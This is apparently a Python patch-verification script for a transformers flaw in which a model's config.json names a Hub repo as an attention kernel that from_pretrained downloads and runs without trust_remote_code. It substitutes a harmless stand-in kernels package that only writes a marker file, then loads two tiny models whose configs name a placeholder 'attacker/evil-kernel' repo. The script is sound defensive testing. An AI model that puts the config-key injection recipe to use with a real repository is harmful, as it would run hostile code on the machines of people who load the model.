"""`hfpatch verify` for transformers-44395 (CVE-2026-4372), run in the target interpreter: torch, CPU, no network.

In transformers 5.0.0 to 5.2.0 a model's config.json can name a Hub repo as an attention kernel, which from_pretrained
has the kernels package download and import, without trust_remote_code: in _attn_implementation_internal (which
PreTrainedConfig.__init__ sets as any unknown key), and in a sub-config's own attn_implementation, which the composite
configs that build their sub-configs after super().__init__ (sam2_video, edgetam_video, sam3_video, gemma3n) keep as
it is written. 5.3.0 skips the private key in PreTrainedConfig.__init__ and has get_kernel refuse a repo outside
kernels-community (unless allow_all_kernels=True, which 5.3.0 adds to from_pretrained).

It puts a stand-in kernels distribution (0.12.0) first on sys.path whose get_kernel(), where the real one downloads
and imports the repo, writes a marker file, then makes two attacks in a scratch directory: a tiny Llama whose
config.json sets "_attn_implementation_internal" to the repo, and a tiny Sam2Video whose config.json sets the repo as
its vision_config's "attn_implementation"; each loaded with AutoModel*.from_pretrained(the directory). Right: neither
marker is written (the model loads, or from_pretrained refuses the kernel). The bug: a marker is. It removes the
scratch directory and prints one JSON line: ok, bug, error_type, error, loader_file (the file of
transformers.integrations.hub_kernels), version, and needs where torch is absent.
"""

from __future__ import annotations

import importlib
import importlib.util
import json
import shutil
import sys
import tempfile
import warnings
from pathlib import Path
from typing import Any

MODULE = "transformers.integrations.hub_kernels"
# A repo and a function in it, the form every release with the kernel loader reads (4.53 to 4.55 require the function);
# one repo an attack, since transformers loads a flash-attention implementation once a process, by its name.
REPO = "attacker/evil-kernel-{index}:attention"
# The stand-in kernels package: the names transformers.integrations.hub_kernels imports, and a get_kernel that runs
# "the repo's code" (writes the marker, MARKER below) where the real one snapshot_download()s the repo and imports it.
KERNELS = """
import enum
import types

MARKER = {marker!r}


class Mode(enum.Flag):
    INFERENCE = enum.auto()
    TRAINING = enum.auto()
    TORCH_COMPILE = enum.auto()
    FALLBACK = enum.auto()


class _Any:
    def __init__(self, *args, **kwargs):
        pass


Device = LayerRepository = FuncRepository = _Any


def register_kernel_mapping(*args, **kwargs):
    pass


def replace_kernel_forward_from_hub(*args, **kwargs):
    pass


def use_kernel_forward_from_hub(*args, **kwargs):
    return lambda cls: cls


def use_kernel_func_from_hub(*args, **kwargs):
    return lambda fn: fn


def get_kernel(repo_id, revision=None, version=None, user_agent=None, **kwargs):
    with open(MARKER, "w") as marker:
        marker.write("kernel repo code ran for " + repo_id)
    return types.ModuleType(repo_id.replace("/", "_"))
"""


def stand_in_kernels(site: Path, marker: Path) -> None:
    """A kernels distribution in site, which goes first on sys.path (before transformers is imported)."""
    (site / "kernels").mkdir(parents=True)
    (site / "kernels" / "__init__.py").write_text(KERNELS.format(marker=str(marker)), encoding="utf-8")
    info = site / "kernels-0.12.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: kernels\nVersion: 0.12.0\n", encoding="utf-8")
    (info / "RECORD").write_text("", encoding="utf-8")
    sys.path.insert(0, str(site))


def tiny_llama(transformers: Any, directory: Path, repo: str) -> None:
    config = transformers.LlamaConfig(
        vocab_size=64,
        hidden_size=16,
        intermediate_size=32,
        num_hidden_layers=1,
        num_attention_heads=2,
        num_key_value_heads=2,
    )
    transformers.LlamaForCausalLM(config).save_pretrained(str(directory))
    saved = json.loads((directory / "config.json").read_text(encoding="utf-8"))
    saved["_attn_implementation_internal"] = repo
    (directory / "config.json").write_text(json.dumps(saved), encoding="utf-8")


def tiny_sam2_video(transformers: Any, directory: Path, repo: str) -> None:
    backbone = {
        "model_type": "sam2_hiera_det_model",
        "hidden_size": 8,
        "num_attention_heads": 1,
        "blocks_per_stage": [1, 1, 1, 1],
        "embed_dim_per_stage": [8, 16, 32, 64],
        "num_attention_heads_per_stage": [1, 1, 1, 1],
        "window_size_per_stage": [2, 2, 2, 2],
        "global_attention_blocks": [1],
        "image_size": [64, 64],
        "window_positional_embedding_background_size": [2, 2],
    }
    vision = {
        "model_type": "sam2_vision_model",
        "backbone_config": backbone,
        "backbone_channel_list": [64, 32, 16, 8],
        "fpn_hidden_size": 16,
    }
    config = transformers.Sam2VideoConfig(
        vision_config=vision,
        prompt_encoder_config={"hidden_size": 16, "image_size": 64, "patch_size": 16},
        mask_decoder_config={"hidden_size": 16, "num_attention_heads": 1, "mlp_dim": 32, "iou_head_hidden_dim": 16},
        image_size=64,
        memory_attention_hidden_size=16,
        memory_attention_feed_forward_hidden_size=32,
        memory_attention_num_layers=1,
        memory_encoder_hidden_size=16,
        memory_encoder_output_channels=8,
        mask_downsampler_embed_dim=16,
        memory_fuser_embed_dim=16,
        memory_fuser_intermediate_dim=32,
    )
    transformers.Sam2VideoModel(config).save_pretrained(str(directory))
    saved = json.loads((directory / "config.json").read_text(encoding="utf-8"))
    saved["vision_config"]["attn_implementation"] = repo
    (directory / "config.json").write_text(json.dumps(saved), encoding="utf-8")


# Each attack: what config.json sets, the model it builds, and the auto class that loads it.
ATTACKS = [
    ("_attn_implementation_internal in config.json", tiny_llama, "AutoModelForCausalLM"),
    ("attn_implementation in config.json's vision_config (a sub-config)", tiny_sam2_video, "AutoModel"),
]


def attack(transformers: Any, scratch: Path, marker: Path, index: int) -> str | None:
    """One attack: the bug it showed, or None (the model loaded without the kernel, or the kernel was refused)."""
    where, build, auto = ATTACKS[index]
    directory, repo = scratch / f"model{index}", REPO.format(index=index)
    build(transformers, directory, repo)
    failure: Exception | None = None
    try:
        getattr(transformers, auto).from_pretrained(str(directory))
    except Exception as error:  # what from_pretrained did after the kernel ran, or its refusal
        failure = error
    if marker.exists():
        marker.unlink()
        after = "" if failure is None else f"; from_pretrained then failed with {type(failure).__name__}"
        return (
            f"{auto}.from_pretrained (no trust_remote_code) ran the kernel repo {repo}'s code, named by {where}{after}"
        )
    if failure is not None and "allow_all_kernels" not in str(failure):
        raise RuntimeError(f"{auto}.from_pretrained of the model with {where}: {type(failure).__name__}: {failure}")
    return None


def run(scratch: Path, marker: Path) -> dict[str, Any]:
    importlib.import_module("torch")
    transformers: Any = importlib.import_module("transformers")
    transformers.logging.set_verbosity_error()
    result: dict[str, Any] = {"ok": False, "bug": False, "error_type": "", "error": ""}
    result["version"] = transformers.__version__
    ran = [found for index in range(len(ATTACKS)) if (found := attack(transformers, scratch, marker, index))]
    if ran:
        result.update(bug=True, error_type="CodeExecution", error="; ".join(ran))
    else:
        result["ok"] = True
    return result


def main() -> None:
    if sys.path and sys.path[0] == "":
        del sys.path[0]
    sys.dont_write_bytecode = True
    warnings.filterwarnings("ignore")
    scratch = Path(tempfile.mkdtemp(prefix="hfpatch-verify-"))
    marker = scratch / "marker"
    loader_file: str | None = None
    try:
        stand_in_kernels(scratch / "site", marker)
        spec = importlib.util.find_spec(MODULE)  # imports transformers' package, not torch
        loader_file = None if spec is None else spec.origin
        if importlib.util.find_spec("torch") is None:
            result: dict[str, Any] = {"ok": False, "bug": False, "needs": "torch", "error_type": "ModuleNotFoundError"}
            result["error"] = "from_pretrained of a model needs torch, which this interpreter cannot import"
        else:
            result = run(scratch, marker)
    except Exception as error:  # saving the tiny model or importing transformers failed: not the bug
        result = {"ok": False, "bug": False, "error_type": type(error).__name__, "error": str(error)[:400]}
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    result["loader_file"] = loader_file
    print(json.dumps(result))


if __name__ == "__main__":
    main()
